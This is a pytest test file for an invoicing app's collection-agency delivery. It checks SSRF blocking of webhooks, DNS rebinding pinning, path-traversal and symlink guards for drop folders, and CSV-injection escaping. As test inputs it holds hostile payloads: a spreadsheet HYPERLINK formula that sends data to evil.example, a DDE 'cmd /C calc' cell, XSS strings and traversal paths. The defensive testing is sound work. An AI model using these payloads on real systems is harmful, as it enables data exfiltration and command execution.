"""Where placements may go (issue 15): an agency's webhook reaches public https addresses only,
checked at configuration and again, pinned, at send time; nothing of an agency's answer is
stored but its status; a drop folder stays inside the data folder; CSV cells cannot start a
formula in the agency's spreadsheet.

DNS is simulated by replacing ``socket.getaddrinfo`` (the resolver the code under test calls);
the agency endpoints are local servers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import socket
import ssl
import threading
from collections.abc import AsyncIterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from sqlalchemy.engine import Engine
from sqlmodel import Session, select
from temporalio.testing import WorkflowEnvironment

from activities.agency import AgencyActivities
from arflow.agency.placement import (
    PLACEMENT_FAILED,
    AgencyDeliveryError,
    FileAgencyAdapter,
    WebhookAgencyAdapter,
    adapter_factory,
)
from arflow.db import session_factory
from models import Agency, AgencyPlacement, InvoiceEvent, Task
from tests.conftest import PRODUCTION, Harness, harness
from tests.test_agency import (
    SECRET,
    AgencyServer,
    _agency,
    _count,
    _escalate,
    _new_invoice,
    _placement,
    _row,
    agency_server,  # noqa: F401 (a fixture)
)
from tests.test_api import error_of

PUBLIC = "93.184.215.14"
_real_getaddrinfo = socket.getaddrinfo


@pytest.fixture
def dns(monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    """Host name -> the addresses it resolves to (a list, or a function of the call count);
    names not listed resolve for real (IP literals, localhost)."""
    names: dict[str, Any] = {}
    calls: dict[str, int] = {}

    def getaddrinfo(host: Any, port: Any, *args: Any, **kwargs: Any) -> Any:
        if host not in names:
            return _real_getaddrinfo(host, port, *args, **kwargs)
        calls[host] = calls.get(host, 0) + 1
        answer = names[host]
        addresses = answer(calls[host]) if callable(answer) else answer
        if not addresses:
            raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")
        result = []
        for address in addresses:
            family = socket.AF_INET6 if ":" in address else socket.AF_INET
            sockaddr = (address, int(port or 0), 0, 0) if ":" in address else (address, port)
            result.append((family, socket.SOCK_STREAM, 6, "", sockaddr))
        return result

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    names["__calls__"] = calls
    return names


@pytest.fixture
async def prod(
    ts_env: WorkflowEnvironment, engine: Engine, tmp_path: Path
) -> AsyncIterator[Harness]:
    """The API with production settings (no worker: configuration only)."""
    async with harness(
        ts_env,
        engine,
        tmp_path,
        with_worker=False,
        **PRODUCTION,
    ) as h:
        yield h


@pytest.fixture
async def dev(
    ts_env: WorkflowEnvironment, engine: Engine, tmp_path: Path
) -> AsyncIterator[Harness]:
    async with harness(ts_env, engine, tmp_path, with_worker=False) as h:
        yield h


async def _configure(h: Harness, **fields: Any) -> httpx.Response:
    body = {"name": "Collect Co", "secret": SECRET} | fields
    return await h.post("/v1/agencies", body, role="admin")


def _webhook(url: str) -> dict[str, Any]:
    return {"delivery": "webhook", "endpoint_url": url}


# -- the webhook URL at configuration ---------------------------------------------------------


async def test_a_webhook_must_be_https_in_production(prod: Harness, dns: dict[str, Any]) -> None:
    dns["agency.example"] = [PUBLIC]
    resp = await _configure(prod, **_webhook("http://agency.example/in"))
    assert resp.status_code == 422, resp.text
    assert "https" in error_of(resp)
    assert _count(prod.engine, Agency) == 0
    ok = await _configure(prod, **_webhook("https://agency.example/in"))
    assert ok.status_code == 201, ok.text


@pytest.mark.parametrize(
    ("addresses", "why"),
    [
        (["10.0.0.1"], "private"),
        (["169.254.169.254"], "link-local"),  # the cloud metadata endpoint
        (["127.0.0.1"], "loopback"),
        (["::1"], "loopback"),
        (["::ffff:10.0.0.1"], "private"),
        (["fe80::1"], "link-local"),
        (["224.0.0.251"], "multicast"),
        (["0.0.0.0"], "reserved"),
        (["240.0.0.1"], "reserved"),
        (["100.64.0.1"], "private"),  # shared address space (carrier-grade NAT)
        ([PUBLIC, "192.168.1.10"], "private"),  # one inside address is enough
        ([], "does not resolve"),
    ],
)
async def test_a_webhook_host_resolving_to_an_inside_address_is_refused(
    prod: Harness, dns: dict[str, Any], addresses: list[str], why: str
) -> None:
    dns["agency.example"] = addresses
    resp = await _configure(prod, **_webhook("https://agency.example/in"))
    assert resp.status_code == 422, resp.text
    assert why in error_of(resp)
    assert _count(prod.engine, Agency) == 0


async def test_an_inside_ip_literal_is_refused_too(prod: Harness) -> None:
    resp = await _configure(prod, **_webhook("https://169.254.169.254/latest/meta-data/"))
    assert resp.status_code == 422, resp.text
    assert "link-local" in error_of(resp)


async def test_loopback_only_in_development_and_test(
    ts_env: WorkflowEnvironment, engine: Engine, tmp_path: Path, dns: dict[str, Any]
) -> None:
    """The local fake agencies of tests and demos listen on loopback: allowed there (plain
    http too), private addresses never; ``agency_allow_loopback=false`` turns it off."""
    dns["fake.test"] = ["127.0.0.1"]
    async with harness(ts_env, engine, tmp_path, with_worker=False) as h:
        ok = await _configure(h, **_webhook("http://fake.test:8080/in"))
        assert ok.status_code == 201, ok.text
        inside = await _configure(h, name="Other", **_webhook("http://10.1.2.3/in"))
        assert inside.status_code == 422 and "private" in error_of(inside)
    async with harness(
        ts_env, engine, tmp_path / "2", with_worker=False, agency_allow_loopback=False
    ) as h:
        refused = await _configure(h, name="Third", **_webhook("http://fake.test:8080/in"))
        assert refused.status_code == 422 and "loopback" in error_of(refused)


# -- the webhook at send time -----------------------------------------------------------------


def test_the_host_is_checked_again_before_each_request(
    agency_server: AgencyServer,  # noqa: F811 (the fixture)
    dns: dict[str, Any],
) -> None:
    """Configured while it resolved to a public address, the name now points inside (DNS
    rebinding, or a record changed): nothing is sent."""
    dns["agency.example"] = ["169.254.169.254"]
    hook = WebhookAgencyAdapter("Collect Co", "https://agency.example/in", SECRET, timeout=1)
    with pytest.raises(AgencyDeliveryError, match="link-local"):
        hook.place(_placement())
    local = WebhookAgencyAdapter("Collect Co", agency_server.url, SECRET, timeout=1)
    with pytest.raises(AgencyDeliveryError, match="loopback"):  # production: no loopback
        local.place(_placement())
    assert agency_server.received == []


def _tls_server(
    tmp_path: Path, name: str
) -> tuple[ThreadingHTTPServer, list[dict[str, Any]], Path]:
    """An https agency on 127.0.0.1 whose certificate is for ``name`` only."""
    key = ec.generate_private_key(ec.SECP256R1())
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, name)])
    now = dt.datetime.now(dt.UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(subject)
        .issuer_name(subject)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(minutes=5))
        .not_valid_after(now + dt.timedelta(hours=1))
        .add_extension(x509.SubjectAlternativeName([x509.DNSName(name)]), critical=False)
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    cert_file, key_file = tmp_path / "cert.pem", tmp_path / "key.pem"
    cert_file.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    key_file.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    received: list[dict[str, Any]] = []

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:  # noqa: N802 (http.server's name)
            self.rfile.read(int(self.headers["Content-Length"]))
            received.append({"host": self.headers["Host"], "path": self.path})
            payload = json.dumps({"reference": "TLS-1"}).encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(payload)))
            self.end_headers()
            self.wfile.write(payload)

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert_file, key_file)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, received, cert_file


def test_the_request_goes_to_the_address_checked_with_the_name_for_tls(
    tmp_path: Path, dns: dict[str, Any]
) -> None:
    """The name is resolved once, by the check; the connection goes to that address while the
    certificate is still checked against the name (SNI) and ``Host`` carries it: a name that
    resolves elsewhere a moment later (here: the metadata address) is never reached."""
    server, received, cert_file = _tls_server(tmp_path, "agency.test")
    port = server.server_address[1]
    dns["agency.test"] = lambda n: ["127.0.0.1"] if n == 1 else ["169.254.169.254"]
    try:
        transport = httpx.HTTPTransport(verify=ssl.create_default_context(cafile=str(cert_file)))
        hook = WebhookAgencyAdapter(
            "Collect Co",
            f"https://agency.test:{port}/in?x=1",
            SECRET,
            timeout=2,
            transport=transport,
            allow_loopback=True,
        )
        assert hook.place(_placement()) == "TLS-1"
        assert received == [{"host": f"agency.test:{port}", "path": "/in?x=1"}]
        assert dns["__calls__"]["agency.test"] == 1
    finally:
        server.shutdown()
        server.server_close()


# -- what an agency answers -------------------------------------------------------------------


def _acts(engine: Engine, root: Path) -> AgencyActivities:
    factory = adapter_factory(str(root / "drop"), timeout=2, root=str(root), allow_loopback=True)
    return AgencyActivities(session_factory(engine), factory)


def test_an_agency_answer_is_never_stored(
    sqlite_engine: Engine,
    tmp_path: Path,
    agency_server: AgencyServer,  # noqa: F811
) -> None:
    """A refusal keeps its status only; an answer's reference is kept only when it looks like
    an identifier."""
    _agency(sqlite_engine, name="Hooked", delivery="webhook", endpoint_url=agency_server.url)
    invoice_id = _new_invoice(sqlite_engine)
    acts = _acts(sqlite_engine, tmp_path)
    agency_server.status = 500
    agency_server.answer = {"error": "AGENCY-INTERNAL stack trace <script>x</script>"}
    with pytest.raises(AgencyDeliveryError) as failed:
        acts.escalate(_escalate(invoice_id))
    assert "AGENCY-INTERNAL" not in str(failed.value)
    task = _row(sqlite_engine, Task, kind=PLACEMENT_FAILED)
    assert task.data["error"] == (
        f"AgencyDeliveryError: agency 'Hooked' answered 500 to the placement of invoice "
        f"{invoice_id}"
    )

    agency_server.status = 200
    agency_server.answer = {"reference": "<img src=x onerror=alert(1)>"}
    acts.escalate(_escalate(invoice_id))
    placement = _row(sqlite_engine, AgencyPlacement, invoice_id=invoice_id)
    assert placement.reference == f"Hooked:invoice-{invoice_id}"
    stored = json.dumps([e.data for e in _all(sqlite_engine, InvoiceEvent)])
    stored += json.dumps([t.data for t in _all(sqlite_engine, Task)])
    assert "AGENCY-INTERNAL" not in stored and "onerror" not in stored


def _all(engine: Engine, model: Any) -> list[Any]:
    with Session(engine) as s:
        return list(s.exec(select(model)).all())


# -- drop folders -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "folder",
    ["../../etc", "/tmp/x", "agencies/../../x", "/etc/cron.d", "link/drop"],
)
async def test_a_drop_folder_outside_the_data_folder_is_refused(
    dev: Harness, tmp_path: Path, folder: str
) -> None:
    data = Path(dev.settings.data_dir)
    data.mkdir(parents=True, exist_ok=True)
    outside = tmp_path / "outside"
    outside.mkdir()
    (data / "link").symlink_to(outside)  # a link inside that leads out
    resp = await _configure(dev, delivery="file", folder=folder)
    assert resp.status_code == 422, resp.text
    assert "folder" in error_of(resp)
    assert _count(dev.engine, Agency) == 0


async def test_a_drop_folder_inside_the_data_folder_is_accepted(dev: Harness) -> None:
    data = Path(dev.settings.data_dir).resolve()
    relative = await _configure(dev, delivery="file", folder="agencies/cc")
    assert relative.status_code == 201, relative.text
    absolute = await _configure(dev, name="Abs", delivery="file", folder=str(data / "abs"))
    assert absolute.status_code == 201, absolute.text
    invoice_id = _new_invoice(dev.engine)
    AgencyActivities.from_settings(session_factory(dev.engine), dev.settings).escalate(
        _escalate(invoice_id, agency="Collect Co")
    )
    assert (data / "agencies" / "cc" / f"placement-invoice-{invoice_id}.json").exists()


def test_a_drop_folder_that_became_a_link_out_is_refused_at_write_time(
    sqlite_engine: Engine, tmp_path: Path
) -> None:
    """Configured inside, the folder was later replaced by a link to elsewhere: nothing is
    written there, the placement fails with a worklist task (Temporal retries)."""
    root, outside = tmp_path / "data", tmp_path / "outside"
    outside.mkdir()
    (root / "agencies").mkdir(parents=True)
    (root / "agencies" / "cc").symlink_to(outside)
    _agency(sqlite_engine, name="Collect Co", folder="agencies/cc")
    invoice_id = _new_invoice(sqlite_engine)
    with pytest.raises(AgencyDeliveryError, match="inside the data folder"):
        _acts(sqlite_engine, root).escalate(_escalate(invoice_id))
    assert list(outside.iterdir()) == []
    assert _count(sqlite_engine, AgencyPlacement) == 0
    assert _row(sqlite_engine, Task, kind=PLACEMENT_FAILED).data["agency"] == "Collect Co"


def test_a_link_planted_as_the_temporary_file_is_not_written_through(tmp_path: Path) -> None:
    drop, victim = tmp_path / "drop", tmp_path / "victim.txt"
    drop.mkdir()
    victim.write_text("untouched")
    (drop / ".placement-invoice-42.json.tmp").symlink_to(victim)
    FileAgencyAdapter(drop, root=str(tmp_path)).place(_placement())
    assert victim.read_text() == "untouched"
    assert json.loads((drop / "placement-invoice-42.json").read_text())["invoice_id"] == 42


# -- CSV cells --------------------------------------------------------------------------------


def test_csv_text_cells_cannot_start_a_formula(tmp_path: Path) -> None:
    """OWASP CSV injection: a text cell starting with = + - @ tab or CR gets a leading ';
    numbers (the amount, the invoice id) stay numbers the agency can parse."""
    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    request = _placement(
        customer_name=hyperlink,
        customer_external_id="@SUM(1+1)*cmd|' /C calc'!A0",
        customer_address="-2+3\nBerlin",
        customer_email="\tx@acme.example",
        customer_phone="+4930123456",
        invoice_number="\r2026-0042",
    )
    FileAgencyAdapter(tmp_path, file_format="csv").place(request)
    [row] = list(
        csv.DictReader(
            io.StringIO((tmp_path / "placement-invoice-42.csv").read_bytes().decode(), newline="")
        )
    )
    assert row["customer_name"] == "'" + hyperlink
    assert row["customer_external_id"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["customer_address"] == "'-2+3\nBerlin"
    assert row["customer_email"] == "'\tx@acme.example"
    assert row["customer_phone"] == "'+4930123456"
    assert row["invoice_number"] == "'\r2026-0042"
    assert int(row["amount_minor"]) == 120_000 and int(row["invoice_id"]) == 42
    assert (row["currency"], row["due_date"], row["stage"]) == ("EUR", "2026-10-01", "collect")


def test_json_placements_are_left_as_they_are(tmp_path: Path) -> None:
    FileAgencyAdapter(tmp_path).place(_placement(customer_name="=1+1"))
    assert (
        json.loads((tmp_path / "placement-invoice-42.json").read_text())["customer_name"] == "=1+1"
    )
